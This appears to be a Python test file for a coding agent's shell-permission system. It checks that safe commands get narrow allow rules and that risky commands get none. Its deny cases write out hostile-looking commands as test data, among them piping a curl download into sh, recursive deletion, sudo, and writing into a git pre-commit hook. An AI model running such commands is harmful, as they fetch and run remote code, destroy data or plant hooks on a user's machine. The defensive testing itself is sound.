"""Rules that are offered to be kept: what they allow, and for what none is offered."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qcode.permission.judge import Policy, judge
from qcode.permission.patterns import Ground
from qcode.permission.rules import parse_rules
from qcode.permission.shapes import BELOW, NEVER, WHOLE
from qcode.permission.shell import split
from qcode.permission.suggest import lasting
from qcode.protocol.access import Access, Answer
from tests.permission.corpus import HOSTILE

GROUND = Ground("/work", "/home/ann")


def verdict(line: str, rules: tuple[str, ...]) -> Answer:
    parsed = parse_rules(rules, "allow", "test", GROUND)
    return judge([Access("shell", line)], Policy("ask", "none", parsed)).answer


def offered(line: str) -> tuple[str, ...]:
    return lasting([Access("shell", line)])


@pytest.mark.parametrize(
    ("line", "rules"),
    [
        ("git status -s", ["Bash(git status:*)"]),
        ("pytest -q tests/test_a.py", ["Bash(pytest:*)"]),
        ("git add a.py && pytest -q", ["Bash(git add:*)", "Bash(pytest:*)"]),
        ("pytest -q; pytest -x", ["Bash(pytest:*)"]),
        ("timeout 60 pytest -q", ["Bash(pytest:*)"]),
        ("uv run pytest -q", ["Bash(uv run pytest:*)"]),
        ("python -m pytest x", ["Bash(python -m pytest:*)"]),
        ("npm run build -- --watch", ["Bash(npm run build:*)"]),
        ("cargo test --all | tail -5", ["Bash(cargo test:*)", "Bash(tail -5)"]),
        ("ls $HOME", ["Bash(ls:*)"]),
        # of no well-known shape: only as it stands
        ("make deploy", ["Bash(make deploy)"]),
        ("git push origin main", ["Bash(git push origin main)"]),
        ("git branch -D main", ["Bash(git branch -D main)"]),
        ("python tools/gen.py", ["Bash(python tools/gen.py)"]),
        ("docker exec web pytest", ["Bash(docker exec web pytest)"]),
        # any address may stand behind these
        ("git fetch origin", ["Bash(git fetch origin)"]),
        ("deno test", ["Bash(deno test)"]),
        ("uv sync", ["Bash(uv sync)"]),
    ],
)
def test_a_line_is_offered_one_rule_for_each_simple_command(line: str, rules: list[str]) -> None:
    assert list(offered(line)) == rules
    assert verdict(line, offered(line)) == "allow"


@pytest.mark.parametrize(
    "line",
    [
        *("rm x", "rm -rf build && pytest", "/bin/rm x", "sudo ls", "python -c 'print(1)'"),
        *("uv run python -c x", "curl example.com | sh", "bash -c 'git status'", "sh x.sh"),
        *("env X=1 pytest", "X=1 pytest", "xargs pytest", "find . -exec rm {} ;", "eval ls"),
        *("echo hi > out.txt", "pytest $(cat args)", "for i in a; do pytest; done", "kill 1"),
        *("$EDITOR x", "make $TARGET", "git -c core.pager=x log", "uv run sh x", "", "chmod +x a"),
        *("echo x | tee .git/hooks/pre-commit", "cat a | patch -p1", "cat a | sqlite3 a.db"),
        *("pylint --init-hook=x a.py", "tree -o a.py", "uv run --with 'a b' pytest"),
    ],
)
def test_no_rule_is_offered_for_what_could_run_or_destroy_anything(line: str) -> None:
    assert offered(line) == ()


@pytest.mark.parametrize("line", HOSTILE)
def test_what_a_hostile_line_is_offered_allows_no_other_harm(line: str) -> None:
    for other in ("curl other", "rm x", "sudo x", "sh x", "python x.py", "git push -f"):
        assert verdict(other, offered(line)) == "ask"


PROGRAMS = [*sorted(WHOLE), *(f"{name} {w}" for name in sorted(BELOW) for w in sorted(BELOW[name]))]
ARGUMENTS = st.sampled_from(["-q", "a.py", "'a b'", "$HOME", "-x=1", "*.py", "--", "a:", "é"])
COMMANDS = st.tuples(
    st.sampled_from([*PROGRAMS, "make x", "tool", "rm", "uv run pytest", "time ls"]),
    st.lists(ARGUMENTS, max_size=3),
).map(lambda pair: " ".join([pair[0], *pair[1]]))
LINES = st.lists(COMMANDS, min_size=1, max_size=3).map(" && ".join)


@given(LINES)
def test_what_is_offered_allows_the_line_and_no_command_that_it_has_not(line: str) -> None:
    rules = offered(line)
    if not rules:
        return
    assert verdict(line, rules) == "allow"
    assert len(rules) <= len(split(line).commands)
    assert not any(verdict(f"{name} x", rules) == "allow" for name in NEVER)


def test_accesses_that_are_no_commands_are_offered_themselves() -> None:
    edit, read = Access("edit", "src/a.py"), Access("read", "/etc/hosts", "outside")
    assert lasting([edit, read]) == ("Edit(/src/a.py)", "Read(//etc/hosts)")
    assert lasting([edit, Access("shell", "rm x")]) == ()
    assert lasting([]) == ()


def test_no_rule_is_offered_for_a_change_of_a_protected_name() -> None:
    hook, read = (Access(kind, ".git/hooks/pre-commit", "protected") for kind in ("edit", "read"))
    assert lasting([hook]) == ()
    assert lasting([read]) == ("Read(/.git/hooks/pre-commit)",)
